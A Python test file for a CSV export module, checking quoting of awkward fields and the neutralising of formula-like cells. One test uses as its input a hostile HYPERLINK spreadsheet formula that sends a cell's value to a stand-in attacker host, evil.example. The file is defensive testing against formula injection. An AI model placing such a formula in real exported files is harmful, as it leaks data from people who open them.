"""The open-data CSV text equals what the csv module writes (formula-like fields made inert), for the awkward fields too."""
import csv
import io
import random

from duban.export.escape import csv_row
from duban.export.site.opendata import csv_text


def reference(rows) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(csv_row(row) for row in rows)
    return out.getvalue()


def test_awkward_fields_are_quoted_as_the_csv_module_does():
    rows = [[1, "东城区", None, 2.5, "a,b"], ["他说\"好\"", "第一行\n第二行", "\r", ""], [""], [None], [],
            ["1,000户", "，全角逗号不必加引号"], [True, 0.1, -3]]
    assert csv_text(rows) == reference(rows)


def test_random_rows_match_the_csv_module():
    rng = random.Random(7)
    pieces = ["东城", ",", '"', "\n", "\r", " ", "", "a,b", "1.5", "；", "、", "=", "+", "-", "@", "\t"]
    for _ in range(2000):
        rows = [[rng.choice([None, 3, 2.5, rng.choice(pieces) + rng.choice(pieces)]) for _ in range(rng.randint(1, 6))]
                for _ in range(rng.randint(0, 4))]
        assert csv_text(rows) == reference(rows), rows


def test_a_progress_item_typed_as_a_formula_opens_as_text():
    hostile = '=HYPERLINK("http://evil.example/?"&B5,"详见附件")'
    rows = list(csv.reader(io.StringIO(csv_text([[7, 3, hostile, "+1", "正常", "-2"], ["@SUM(A1)", "a,=b"]]))))
    assert rows == [["7", "3", "'" + hostile, "'+1", "正常", "'-2"], ["'@SUM(A1)", "a,=b"]]
